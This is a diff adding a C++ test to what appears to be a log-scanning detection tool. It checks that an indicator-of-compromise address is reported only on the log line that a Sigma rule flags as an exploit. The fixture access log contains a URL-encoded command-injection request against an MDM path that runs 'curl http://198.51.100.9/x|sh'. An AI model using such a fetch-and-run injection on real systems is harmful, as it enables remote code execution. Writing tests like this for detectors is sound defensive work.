@@ -219,6 +219,34 @@ TEST_F(ScanTest, GzipAndIocsAndSigmaHq) {
   EXPECT_GE(alerts.size(), 4u);
 }
 
+// The address an exploit fetches its second stage from is an indicator on the line that
+// carries the exploit, read from its decoded payload; a line no rule flags is not read so.
+TEST_F(ScanTest, IndicatorsInsideAFlaggedPayload) {
+  ScanOptions opt;
+  opt.rule_dirs = {kBundledSigma};
+  opt.ioc_files = {
+      Write("iocs.csv", "type,value,source\nip,198.51.100.9,cert-eu\ndomain,evil.example,misp\n")};
+  const std::string prefix = "mdm.example.eu:443 203.0.113.5 - - [30/Jan/2026:09:15:0";
+  opt.log_files = {
+      Write("access.log",
+            prefix +
+                "0 +0000] \"GET /mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et="
+                "1337133713,h=gPath%5B%60curl%20http%3A%2F%2F198.51.100.9%2Fx%7Csh%60%5D/"
+                "e2327851-1e09-4463-9b5a-b524bc71fc07.ipa HTTP/1.1\" 404 0 \"-\" \"curl/8.4\"\n" +
+                prefix +
+                "1 +0000] \"GET /mifs/user/profile?next=198.51.100.9&dns=evil.example "
+                "HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\"\n")};
+  ASSERT_EQ(Run(opt), 0) << err_.str();
+  std::vector<std::string> iocs;
+  for (const auto& a : Alerts()) {
+    if (a["rule"] != "ioc") continue;
+    EXPECT_EQ(a["line"], 1) << a.dump();
+    EXPECT_EQ(a["ioc"]["field"], "url.original");
+    iocs.push_back(a["ioc"]["value"]);
+  }
+  EXPECT_EQ(iocs, (std::vector<std::string>{"198.51.100.9"}));
+}
+
 TEST_F(ScanTest, GarbageAndHugeLinesAreCountedNotFatal) {
   std::string log = "\x01\x02 binary garbage\n" + std::string(1100000, 'x') + "\n" +
                     std::string(3000000, 'y') + "\n" + Log();
